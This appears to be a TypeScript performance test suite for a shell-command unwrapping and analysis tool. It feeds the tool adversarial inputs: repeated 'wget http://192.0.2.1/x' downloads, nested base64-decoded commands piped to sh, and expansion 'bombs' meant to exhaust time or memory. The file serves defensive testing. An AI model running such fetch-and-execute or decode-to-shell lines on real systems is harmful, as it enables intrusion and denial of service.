import assert from 'node:assert/strict'
import { test } from 'node:test'
import { gzipSync } from 'node:zlib'
import { shellFacts } from '../../src/neutralize/shell.ts'
import { unwrap } from '../../src/neutralize/unwrap/unwrap.ts'

const UNITS = [
  ...['%25', '%', '&#', '&#65;', '\\x', '\\x41', '\\u0041', '\\', '41 ', 'QUFB', '0x41,', '+?a='],
  ...['$(', '`', '"', "'", '${', '$((', '<(', '(', '{', '{a,b}', '{a,b} ', '"`', '"$(', "$'"],
  ...[
    '<<a\n',
    '<<<$(',
    'a|',
    'echo a|',
    'echo ',
    'sh -c "',
    'eval ',
    'cat f;',
    'echo a>f;',
    'sudo ',
  ],
  ...['a=${a}${a};', '$x', '$IFS', '$@', '\n', '\t\n', '\u200b', '\udc80', 'ａ', '() {', '; wget '],
  ...[
    'python -c "',
    "b64decode('",
    'import a\n',
    'http://',
    'if ',
    'case a in ',
    'a(',
    '\u{e0041}',
  ],
]

test('no repeated piece costs more than in proportion to its length', () => {
  for (const unit of UNITS) {
    const short = unit.repeat(16_384 / unit.length)
    const long = unit.repeat(65_536 / unit.length)
    for (const work of [
      (text: string) => unwrap(text, 'command'),
      (text: string) => unwrap(text, 'data'),
      (text: string) => shellFacts(text),
    ]) {
      const base = cpuMs(() => work(short))
      const full = cpuMs(() => work(long))
      // Four times the text in quadratic time is sixteen times the work; small figures are noise.
      if (full > 60) assert.ok(full < base * 12, `${JSON.stringify(unit)}: ${base} and ${full} ms`)
    }
  }
})

const filler = 'wget http://192.0.2.1/x; '.repeat(300)
const letters = 'a'.repeat(30_000)
const blob = gzipSync(Buffer.alloc(65_536, 97)).toString('base64')
const BOMBS: Readonly<Record<string, string>> = {
  'variables that double': `a=xxxxxxxx;${'a=$a$a;'.repeat(40)}${'$a '.repeat(20_000)}`,
  'a file read many times': `echo ${letters}>f;${'cat f;'.repeat(5_000)}`,
  'a file deleted many times': `echo ${letters}>f;${'tr -d a<f;'.repeat(3_400)}`,
  'formats with a width': 'printf %99999999s x|sh;'.repeat(2_800),
  'many compressed blobs': `${blob} `.repeat(65_000 / (blob.length + 1)),
  'letters that become many': `a=${letters.slice(0, 8_000)};${'${a//a/yyyyyyyy} '.repeat(3_300)}`,
  'braces that multiply': `${'{a,b}'.repeat(60)} ${letters}`,
  'here-strings in here-strings': `${'sh <<< $('.repeat(22)}id${')'.repeat(22)}`,
  'here-documents in here-documents': Array.from(
    { length: 3_000 },
    (_, i) => `cat <<E${i}\n$(`,
  ).join(''),
  'shells in files in shells': `${'sh <(sh < $('.repeat(11)}id${'))'.repeat(11)}`,
  'substitutions in substitutions': `${'$(a $(b '.repeat(3_000)}${'))'.repeat(3_000)}`,
}

for (const [name, text] of Object.entries(BOMBS))
  test(`${name} cost little time and make little text`, () => {
    for (const fieldClass of ['command', 'data'] as const) {
      const { texts } = unwrap(text, fieldClass)
      const chars = texts.slice(1).reduce((sum, made) => sum + made.length, 0)
      assert.ok(chars <= 400_000, `${chars} characters`)
      assert.ok(cpuMs(() => unwrap(text, fieldClass)) < 250)
    }
  })

test('the largest command with nested encodings is measured', (t) => {
  let nested = filler
  for (;;) {
    const next = `echo ${Buffer.from(nested).toString('base64')} | base64 -d | sh`
    if (next.length > 65_536) break
    nested = next
  }
  nested = nested.padEnd(65_536, ' ')
  assert.ok(unwrap(nested, 'command').texts.at(-1)!.startsWith(filler.trim()))
  const ms = cpuMs(() => unwrap(nested, 'command'))
  t.diagnostic(`64 KiB, nested base64: ${ms.toFixed(1)} ms CPU`)
  assert.ok(ms < 250)
})

test('an ordinary command costs next to nothing', (t) => {
  const ordinary = 'cd /tmp || cd /var/run; uname -a; free -m'
  const ms = cpuMs(() => {
    for (let i = 0; i < 100_000; i += 1) unwrap(ordinary, 'command')
  })
  t.diagnostic(`${((ms * 1_000) / 100_000).toFixed(2)} microseconds`)
  assert.ok(ms < 1_000)
})

/** The best of three runs, in milliseconds of CPU. */
function cpuMs(work: () => void): number {
  let best = Number.POSITIVE_INFINITY
  for (let i = 0; i < 3; i += 1) {
    const before = process.cpuUsage()
    work()
    const { user, system } = process.cpuUsage(before)
    best = Math.min(best, (user + system) / 1_000)
  }
  return best
}
